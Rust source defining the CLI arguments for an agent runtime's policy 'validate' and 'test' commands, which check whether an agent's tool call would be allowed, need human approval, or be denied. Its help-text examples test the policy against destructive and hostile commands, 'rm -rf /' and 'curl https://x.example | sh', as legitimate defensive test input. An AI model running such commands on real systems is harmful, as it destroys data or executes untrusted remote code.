//! `policy validate|test`: what needs no daemon.

use std::path::PathBuf;

use clap::Args;

use super::Output;
use crate::domain::Role;

#[derive(Debug, Args)]
#[command(after_help = "\
Every problem is told at once, each with its line. Nothing is stored and nothing changes; put a good
file in force with `policy put`, or name it as `policy.file` in the configuration.

Exit code: 0 when the file is good, 2 when it is not.

Examples:
  agent-runtime policy validate policy.toml
  agent-runtime policy validate policy.toml --json")]
pub(crate) struct PolicyValidate {
    /// The file
    pub(crate) file: PathBuf,
    #[command(flatten)]
    pub(crate) output: Output,
}

#[derive(Debug, Args)]
#[command(after_help = "\
Says what would become of a call: allow, ask or deny, by which rule, and what would change it. Nothing is
run. The agent is the one of the configuration; without FILE the policy is the one that `policy.file`
names, or else the built-in one. A running daemon may hold another: `policy explain` asks it.

--path reads, with --write it writes; --tool may choose another tool that takes a path. `--argv` is a JSON
list; what stands after `--` is an argv too.

Exit code: 0 when it would run, 4 when a person would be asked, 1 when it would be denied, 2 when the question
is wrong.

Examples:
  agent-runtime policy test -- git push --force
  agent-runtime policy test policy.toml --argv '[\"rm\",\"-rf\",\"/\"]' --agent default
  agent-runtime policy test policy.toml --script 'curl https://x.example | sh'
  agent-runtime policy test policy.toml --path src/main.rs --write --role operator
  agent-runtime policy test policy.toml --url https://api.example/v1 --method POST --tainted")]
pub(crate) struct PolicyTest {
    /// The policy's file [default: the configured one, or the built-in policy]
    pub(crate) file: Option<PathBuf>,
    /// The agent whose call it would be
    #[arg(long, default_value = "default")]
    pub(crate) agent: String,
    /// The tool, where the other options leave a choice: `read_file`, `list_files`, `search_files`,
    /// `write_file`, `edit_file`, `ask_user`
    #[arg(long)]
    pub(crate) tool: Option<String>,
    /// A program and its arguments, as a JSON list
    #[arg(long, value_name = "JSON", group = "call", conflicts_with = "command")]
    pub(crate) argv: Option<String>,
    /// A script of `shell`
    #[arg(long, value_name = "TEXT", group = "call", conflicts_with = "command")]
    pub(crate) script: Option<String>,
    /// A path of a file tool
    #[arg(long, group = "call", conflicts_with = "command")]
    pub(crate) path: Option<String>,
    /// The path is written
    #[arg(long, requires = "path")]
    pub(crate) write: bool,
    /// The address of `http_request`
    #[arg(long, group = "call", conflicts_with = "command")]
    pub(crate) url: Option<String>,
    /// The method of `http_request`
    #[arg(long, requires = "url", default_value = "GET")]
    pub(crate) method: String,
    /// The role of whoever started the run: viewer, member, operator, admin, overlord
    #[arg(long, default_value = "member")]
    pub(crate) role: Role,
    /// Where the run was started: api, admin or system
    #[arg(long, default_value = "api")]
    pub(crate) channel: String,
    /// The run has read untrusted content
    #[arg(long)]
    pub(crate) tainted: bool,
    /// A program and its arguments
    #[arg(last = true, value_name = "ARGV")]
    pub(crate) command: Vec<String>,
    #[command(flatten)]
    pub(crate) output: Output,
}
